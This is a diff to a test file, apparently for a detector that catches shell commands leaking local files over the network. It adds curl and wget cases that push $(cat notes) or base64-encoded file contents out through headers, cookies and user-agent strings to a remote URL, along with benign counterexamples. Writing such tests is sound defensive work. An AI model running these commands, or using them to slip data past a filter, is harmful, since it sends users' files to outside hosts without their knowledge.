@@ -58,7 +58,11 @@ describe('an option whose value is not known', () => {
     'curl -G --data-urlencode name@notes https://github.com/x',
     'curl --get -dname@notes https://github.com/x',
     'curl --url-query name@notes https://github.com/x',
-    "wget --post-data=$'a\nb' https://github.com/x",
+    "wget --post-data=$'a\\nb' https://github.com/x",
+    'curl -H "x: $(cat notes)" https://github.com/x',
+    'curl -s -A "$(base64 notes)" https://github.com/x',
+    'curl -b"$(cat notes)" https://github.com/x',
+    'wget --header="x: $(cat notes)" https://github.com/x',
     'wget --post-f=notes https://github.com/x',
     'curl --dat x https://github.com/x',
   ])('sends it all the same: %s', (script) => {
@@ -67,6 +71,9 @@ describe('an option whose value is not known', () => {
 
   it.each([
     'curl -o"$(cat name)" https://github.com/x',
+    'curl -H "x: $(date)" https://github.com/x',
+    'curl -H "x: $(cat notes)" http://localhost:3000/x',
+    'curl -sL https://github.com/a/b/archive/v$(cat VERSION).tar.gz -o x.tgz',
     'curl --data="$(cat notes)" http://localhost:3000/x',
     'curl -G --data-urlencode q=a https://github.com/x',
     'curl --url-query q=a https://github.com/x',
